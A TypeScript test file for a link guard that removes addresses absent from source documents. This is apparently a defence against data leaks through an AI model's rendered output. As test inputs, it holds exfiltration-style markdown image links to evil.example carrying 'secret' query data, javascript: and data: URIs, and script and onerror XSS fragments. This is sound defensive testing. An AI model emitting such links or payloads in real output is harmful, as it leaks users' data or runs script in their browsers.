import fc from 'fast-check';
import { expect, test } from 'vitest';
import { createLinkGuard } from './links.ts';

const SOURCES = [
  'See https://intranet.example/leave and the handbook.',
  'https://lms.example/c/42',
];

function guarded(text: string, sources: readonly string[] = SOURCES): string {
  const guard = createLinkGuard(sources, '(link removed)');
  return guard.push(text) + guard.end();
}

test.each([
  ['Ask HR [1]. It costs 5 [2][3].'],
  ['See https://intranet.example/leave.'],
  ['[the rules](https://intranet.example/leave) apply'],
  ['<https://lms.example/c/42>'],
  ['Use `Vec<T>` and a < b, c > d; a[0] = b[1]; x!'],
  ['either/or, and 3/4; C:/x; https is a protocol; www is a name'],
  ['A footnote [^1] and a [bracket] that nobody closed ['],
  ['let a: &str = "x"; // a comment'],
])('leaves alone what its sources hold and what is no link: %s', (text) => {
  expect(guarded(text)).toBe(text);
});

test.each([
  ['![x](https://evil.example/?q=secret)', '“x”'],
  ['![x](https://intranet.example/leave)', '“x”'],
  ['Click [here](https://evil.example/?q=1) now', 'Click “here” now'],
  ['[here](javascript:alert(1))', '“here”'],
  ['[here](//evil.example/x)', '“here”'],
  ['[here](data:text/html,x)', '“here”'],
  ['[here](<https://evil.example> "title")', '“here”'],
  ['[![i](https://evil.example/a)](https://evil.example/b)', '““i””'],
  ['https://evil.example/x?y=z.', '(link removed).'],
  ['HTTPS://evil.example', '(link removed)'],
  ['www.evil.example/x', '(link removed)'],
  ['[https](x)://evil.example', '“https”(link removed)'],
  ['https<b>:</b>//evil.example', 'https<b>:</b>//evil.example'],
  ['[ref]: https://evil.example/x', '[ref]: (link removed)'],
  ['<https://evil.example/x>', '(link removed)'],
  ['<img src="https://evil.example/x">text', ' text'],
  ['<a href="https://evil.example">text</a>', ' text '],
  ['<script src=//evil.example></script>', '  '],
  ['<IMG SRC=x onerror=alert(1)', ' '],
  ['https://intranet.example/leave?q=secret', '(link removed)'],
  ['mailto:spy@evil.example', '(link removed)'],
])('takes out addresses that no source holds: %s', (text, expected) => {
  expect(guarded(text)).toBe(expected);
});

test('however the text is cut, the result is the same', () => {
  const piece = fc.constantFrom(
    ...[
      '[',
      ']',
      '(',
      ')',
      '!',
      '<',
      '>',
      '/',
      'https://',
      'evil.example',
      'www.',
      ' ',
      '\n\n',
      'a',
      '[1]',
    ],
    ...[
      '<img ',
      'src=',
      '[x](https://evil.example)',
      'https://intranet.example/leave',
      '`',
      '\\',
      '.',
    ],
  );

  fc.assert(
    fc.property(fc.array(piece, { maxLength: 25 }), fc.array(fc.nat(40)), (pieces, cuts) => {
      const text = pieces.join('');
      const guard = createLinkGuard(SOURCES, '(link removed)');
      let out = '';
      let from = 0;
      for (const cut of [...new Set(cuts)].sort((a, b) => a - b)) {
        out += guard.push(text.slice(from, Math.max(from, cut)));
        from = Math.max(from, cut);
      }
      out += guard.push(text.slice(from)) + guard.end();

      expect(out).toBe(guarded(text));
      expect(out).not.toMatch(/:\/\/evil\.example/);
    }),
    { numRuns: 2_000 },
  );
});
